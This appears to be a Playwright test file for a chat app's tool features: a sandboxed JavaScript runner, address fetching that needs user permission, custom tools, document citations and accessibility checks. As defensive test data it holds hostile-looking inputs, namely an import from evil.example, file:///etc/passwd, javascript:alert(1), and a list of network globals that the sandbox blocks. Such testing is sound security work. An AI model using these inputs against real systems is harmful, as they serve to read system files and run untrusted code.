/** Tools and documents on the page: calls with arguments and results, limits, the closed sandbox, permission for each
 * address, own tools, notes, passages with citations; and axe on all of it. */
import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { check, checkEqual } from "../web/check.js";
import { end, quick, screenshot } from "./browser.js";
import { fakeServer, setScenario, withFakePage } from "./fake_page.js";
import { answered, answerText, send, settled } from "./page.js";

async function enable(page: Page, ...names: string[]): Promise<void> {
    await page.click("#open-tools");
    for (const name of names) {
        await page.check(`#tool-${name}`);
    }
    await page.click('#tools button:has-text("Done")');
}

/** [state, result] of the calls of the last answer. */
const results = (page: Page): Promise<string[][]> =>
    page.evaluate(() => [...document.querySelectorAll<HTMLElement>(".message.last .call")].map((call) => [call.dataset["state"] ?? "", call.querySelector('[aria-label="Result"]')?.textContent ?? ""]));

/** One call per round; the answer comes after them. */
async function call(page: Page, ...calls: [string, object | string][]): Promise<string[][]> {
    await setScenario(page, { text: "Done.", calls: calls.map(([name, args]) => [{ name, arguments: typeof args === "string" ? args : JSON.stringify(args) }]) });
    await send(page, "Use the tool.");
    await answered(page);
    return results(page);
}

await withFakePage("the model calls tools: arguments and results are shown, and the results reach the model", { text: "Hello." }, async (page) => {
    await send(page, "Hello");
    await answered(page);
    checkEqual(await page.evaluate(() => "tools" in (globalThis.requests?.[0] ?? {})), false, "no tools until the user wants them");
    await enable(page, "calculator", "clock", "notes");
    checkEqual(await page.textContent("#active-tools"), "Calculator, Clock, Notes", "what is on is shown");
    const got = await call(page, ["calculator", { expression: "17.5 * 4" }], ["clock", { time_zone: "Asia/Tokyo" }], ["clock", { time_zone: "Nowhere" }], ["calculator", "{broken"], ["run_javascript", { code: "1" }]);
    checkEqual(got.map(([state]) => state), ["done", "done", "failed", "failed", "failed"], "states");
    checkEqual(got[0]?.[1], "70", "result");
    check(/\(Asia\/Tokyo\)$/.test(got[1]?.[1] ?? ""), got[1]?.[1] ?? "");
    check((got[4]?.[1] ?? "").includes("no tool named run_javascript"), "a tool that is off");
    const last = await page.evaluate(() => globalThis.requests?.at(-1)?.messages.filter(({ role }) => role === "tool").map(({ content }) => content));
    checkEqual([last?.length, last?.[0]], [5, "70"], "what the model gets");
    await page.click(".message.last .call summary >> nth=0");
    check(((await page.textContent(".message.last .call >> nth=0")) ?? "").includes("untrusted"), "marked as untrusted");
    await settled(page);
    await screenshot(page, "tools-desktop-light");
    await page.reload();
    await page.waitForSelector(".message.last .call");
    checkEqual((await results(page))[0], ["done", "70"], "after a reload");
});

await withFakePage("calls are bounded: a model that calls for ever is stopped, and too many at once are refused", { text: "" }, async (page) => {
    await enable(page, "calculator");
    const one = { name: "calculator", arguments: '{"expression":"1"}' };
    await setScenario(page, { text: "", calls: Array.from({ length: 30 }, () => [one]) });
    await send(page, "For ever");
    await page.waitForSelector('.message.last .outcome:has-text("called tools 8 times")');
    checkEqual(await page.locator(".message.last .call").count(), 8, "calls");
    await setScenario(page, { text: "Done.", calls: [Array.from({ length: 10 }, () => one)] });
    await send(page, "At once");
    await answered(page);
    checkEqual((await results(page)).filter(([state]) => state === "failed").length, 2, "refused");
});

await withFakePage("JavaScript runs in a closed interpreter: no network, no page, no storage, a limit of time and memory", { text: "" }, async (page, browser) => {
    await enable(page, "run_javascript");
    const run = async (code: string): Promise<string[]> => (await call(page, ["run_javascript", { code }]))[0] ?? [];
    checkEqual(await run("console.log('a', {b: [1n]}); const f = (n) => n < 2 ? n : f(n - 1) + f(n - 2); f(15)"), ["done", 'a {"b":["1"]}\n610'], "result");
    checkEqual(await run("new Promise((resolve) => resolve([1, 2]))"), ["done", "[1,2]"], "a promise");
    const names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "indexedDB", "caches", "navigator", "self", "window", "document", "postMessage", "location", "setTimeout", "WebAssembly", "process", "require"];
    checkEqual(await run(`${JSON.stringify(names)}.filter((name) => name in globalThis)`), ["done", "[]"], "nothing to reach the network or the page with");
    check((await run("import('https://evil.example/x.js')")).join(" ").startsWith("failed"), "no modules");
    check((await run("throw new TypeError('no')"))[1]?.includes("TypeError: no") === true, "an error");
    if (!quick) {
        check((await run("for (;;);"))[1]?.includes("longer than 5 seconds") === true, "a limit of time");
    }
    check((await run("const a = []; for (;;) a.push(new Array(1e5).fill(7))")).join(" ").startsWith("failed"), "a limit of memory");
    checkEqual(browser.requested.filter((url) => !url.startsWith(fakeServer.url)), [], "requests");
    checkEqual(browser.log.filter((line) => /Content Security/i.test(line)), [], "the page's policy is kept");
});

await withFakePage("an address is read only after the user allows it, each time; an answer can be stopped while it is asked", { text: "" }, async (page) => {
    await page.route("https://site.example/**", (route) =>
        route.fulfill({ contentType: "text/html", headers: { "Access-Control-Allow-Origin": "*" }, body: "<title>T</title><script>document.hit = 1</script><p>One</p><p>Two <img src=https://evil.example/x.png></p>" }));
    await enable(page, "fetch_address");
    const ask = async (url: string, answer: string): Promise<string[]> => {
        await setScenario(page, { text: "Done.", calls: [[{ name: "fetch_address", arguments: JSON.stringify({ url }) }]] });
        await send(page, "Read it.");
        await page.waitForSelector("#confirm[open] .address");
        checkEqual(await page.textContent("#confirm .address"), url, "the whole address is shown");
        await page.click(`#confirm button:has-text("${answer}")`);
        await answered(page);
        return (await results(page))[0] ?? [];
    };
    checkEqual(await ask("https://site.example/page?q=secret", "Do not read"), ["failed", "Error: The user did not allow this address."], "refused");
    checkEqual(await ask("https://site.example/page", "Read once"), ["done", "T\n\nOne\nTwo"], "its text");
    for (const url of ["http://site.example/", "file:///etc/passwd", "javascript:alert(1)", "https://user:pw@site.example/"]) {
        checkEqual((await call(page, ["fetch_address", { url }]))[0]?.[0], "failed", url);
    }
    await setScenario(page, { text: "Done.", calls: [[{ name: "fetch_address", arguments: '{"url":"https://site.example/b"}' }]] });
    await send(page, "Read it.");
    await page.waitForSelector("#confirm[open]");
    await page.keyboard.press("Escape");
    await answered(page);
    checkEqual((await results(page))[0]?.[0], "failed", "Escape means no");
});

await withFakePage("own tools: a schema and JavaScript; notes are kept and can be deleted", { text: "" }, async (page) => {
    await page.click("#open-tools");
    await page.click('#tools button:has-text("New tool")');
    await page.fill("#own-name", "clock");
    await page.fill("#own-description", "Reverses a text.");
    await page.click('#tools button:has-text("Save")');
    check(((await page.textContent("#tools .fault")) ?? "").includes("already"), "a taken name");
    await page.fill("#own-name", "reverse");
    await page.fill("#own-parameters", "{");
    await page.click('#tools button:has-text("Save")');
    check(((await page.textContent("#tools .fault")) ?? "").includes("not valid JSON"), "a broken schema");
    await settled(page);
    await screenshot(page, "own-tool-desktop-light");
    await page.fill("#own-parameters", '{"type":"object","properties":{"text":{"type":"string"}},"required":["text"]}');
    await page.click('#tools button:has-text("Save")');
    await page.waitForSelector("#tool-reverse");
    check(await page.isChecked("#tool-reverse"), "it is on");
    await page.check("#tool-notes");
    await page.click('#tools button:has-text("Done")');
    const got = await call(page, ["reverse", { text: "abc" }], ["notes", { action: "write", title: "Milk", text: "Buy <b>milk</b>" }], ["notes", { action: "list" }], ["notes", { action: "read", title: "Bread" }]);
    checkEqual(got.map(([, text]) => text), ["cba", "The note is stored.", "- Milk", 'Error: There is no note "Bread".'], "results");
    await page.reload();
    await page.waitForSelector("html[data-started]");
    await page.click("#open-tools");
    await page.waitForSelector('#tools .rows:has-text("Buy <b>milk</b>")');
    check(await page.isChecked("#tool-reverse"), "after a reload");
    await settled(page);
    await screenshot(page, "tool-list-desktop-light");
    await page.click('button[aria-label="Delete the note Milk"]');
    await page.waitForFunction(() => document.querySelector("#tools .rows") === null);
});

/** A PDF file with a line of text on each page. */
function pdf(lines: string[]): Buffer {
    const objects = ["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${lines.map((_, i) => `${4 + 2 * i} 0 R`).join(" ")}] /Count ${lines.length} >>`, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"];
    for (const line of lines) {
        const stream = `BT /F1 12 Tf 72 700 Td (${line}) Tj ET`;
        objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${objects.length + 2} 0 R >>`, `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
    }
    let text = "%PDF-1.4\n";
    const offsets = objects.map((object, i) => {
        const at = text.length;
        text += `${i + 1} 0 obj\n${object}\nendobj\n`;
        return at;
    });
    const xref = text.length;
    text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("")}`;
    return Buffer.from(`${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`, "latin1");
}

await withFakePage("documents: PDF and text on the shelf, passages in the question, citations that open them", { text: "Opals hold water [1], see [9]." }, async (page, browser) => {
    await page.click("#open-shelf");
    check(((await page.textContent("#shelf .search-kind")) ?? "").includes("by words"), "the kind of search is said");
    const choose = async (...files: { name: string; mimeType: string; buffer: Buffer }[]): Promise<void> => {
        const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.click('#shelf button:has-text("Add files")')]);
        await chooser.setFiles(files);
    };
    await choose(
        { name: "stones.pdf", mimeType: "application/pdf", buffer: pdf(["Quartz is silicon and oxygen.", "Opals contain water and may crack."]) },
        { name: "notes.md", mimeType: "text/markdown", buffer: Buffer.from("# Rings\n\nA bezel holds the stone.") },
        { name: "broken.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4 nothing") },
        { name: "empty.txt", mimeType: "text/plain", buffer: Buffer.alloc(0) },
    );
    await page.waitForSelector('#shelf .fault:has-text("empty.txt is empty.")');
    await page.waitForSelector('#shelf .fault:has-text("broken.pdf cannot be read: it is damaged")');
    checkEqual((await page.locator("#shelf .rows b").allTextContents()).sort(), ["notes.md", "stones.pdf"], "documents");
    check(((await page.textContent('#shelf .rows li:has-text("stones.pdf")')) ?? "").includes("2 pages"), "pages");
    await settled(page);
    await screenshot(page, "shelf-desktop-light");
    await page.click('#shelf button:has-text("Done")');
    checkEqual(await page.textContent("#active-documents"), "2 documents", "in use");
    await send(page, "Why do opals crack?");
    await answered(page);
    const prompt = await page.evaluate(() => String(globalThis.requests?.at(-1)?.messages.at(-1)?.content));
    check(prompt.includes("[1] stones.pdf, page 2\nOpals contain water and may crack.") && prompt.endsWith("Question: Why do opals crack?"), prompt);
    checkEqual(await page.textContent(".message.user .fold-text"), "Why do opals crack?", "the question as it was asked");
    checkEqual(await page.locator(".citation").allTextContents(), ["1"], "only passages that exist are cited");
    check((await answerText(page)).endsWith("see [9]."), "others stay text");
    await page.click(".citation");
    check(((await page.textContent(".sources li:focus")) ?? "").includes("Opals contain water"), "the passage is shown");
    await settled(page);
    await screenshot(page, "sources-desktop-light");
    await page.click("#active-documents");
    await page.uncheck("#use-documents");
    await page.click('#shelf button:has-text("Done")');
    await send(page, "And opals again?");
    await answered(page);
    checkEqual(await page.evaluate(() => globalThis.requests?.at(-1)?.messages.at(-1)?.content), "And opals again?", "without documents");
    checkEqual(browser.log.filter((line) => /^uncaught|Content Security/i.test(line)), [], "errors");
});

interface AxeResult {
    violations: { id: string; impact: string; nodes: { target: string[] }[] }[];
}

for (const colors of ["light", "dark"] as const) {
    for (const phone of quick ? [colors === "dark"] : [false, true]) {
        const device = phone ? "phone" : "desktop";
        await withFakePage(
            `${device}, ${colors}: axe finds nothing serious in answers, tools, documents and menus`,
            { text: "# Head\n\nText with `code`, $x^2$ and [a link](https://example.org).\n\n```js\nlet a = 1; // note\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] task" },
            async (page) => {
                await page.evaluate(await readFile("build/web/node_modules/axe-core/axe.min.js", "utf8"));
                const examine = async (where: string): Promise<void> => {
                    await settled(page);
                    await screenshot(page, `${where}-${device}-${colors}`);
                    const { violations } = await page.evaluate(() => (globalThis as unknown as { axe: { run(): Promise<AxeResult> } }).axe.run());
                    const serious = violations.filter(({ impact }) => impact === "serious" || impact === "critical");
                    checkEqual(serious.map(({ id, nodes }) => [id, ...nodes.map(({ target }) => target.join(" "))]), [], where);
                };
                const side = async (open: boolean): Promise<void> => {
                    if (phone) {
                        await page.click(open ? "#open-side" : "#close-side");
                    }
                };
                await side(true);
                await page.click("#open-tools");
                await page.check("#tool-calculator");
                await examine("tools");
                await page.click('#tools button:has-text("New tool")');
                await examine("own-tool");
                await page.click('#tools button:has-text("Cancel")');
                await page.click('#tools button:has-text("Done")');
                await page.click("#open-shelf");
                await examine("documents");
                await page.click('#shelf button:has-text("Done")');
                await side(false);
                await setScenario(page, { text: (await page.evaluate(() => globalThis.scenario?.text)) ?? "", calls: [[{ name: "calculator", arguments: '{"expression":"6*7"}' }]] });
                await send(page, "Show me.");
                await answered(page);
                await page.click('.message.last button:has-text("Answer again")');
                await answered(page);
                await page.click(".message.last .call summary");
                await page.waitForSelector(".code .c-keyword");
                await page.waitForSelector(".math.drawn");
                await examine("answer");
                await side(true);
                await page.hover(".conversation");
                await page.click(".conversation .tools button");
                await examine("menu");
                await page.keyboard.press("Escape");
            },
            { colors, phone },
        );
    }
}

await end(fakeServer);
